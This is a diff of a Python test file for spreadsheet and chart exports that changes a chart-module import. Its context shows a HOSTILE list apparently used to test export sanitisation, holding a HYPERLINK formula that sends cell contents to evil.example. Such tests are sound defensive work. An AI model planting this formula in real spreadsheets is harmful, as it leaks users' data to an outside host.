@@ -10,7 +10,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from lib import charts, exports
+from lib import exports
+from lib.domains.action_points import charts as ap_charts
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -132,7 +133,7 @@ def test_chart_png_returns_png_bytes():
             "share": [0.25, 0.75, 0.5, 0.5],
         }
     )
-    png = exports.chart_png(charts.cluster_status_bars(df))
+    png = exports.chart_png(ap_charts.cluster_status_bars(df))
     assert png.startswith(b"\x89PNG\r\n\x1a\n")
     width, height = int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")
     assert width > 200 and height > 50
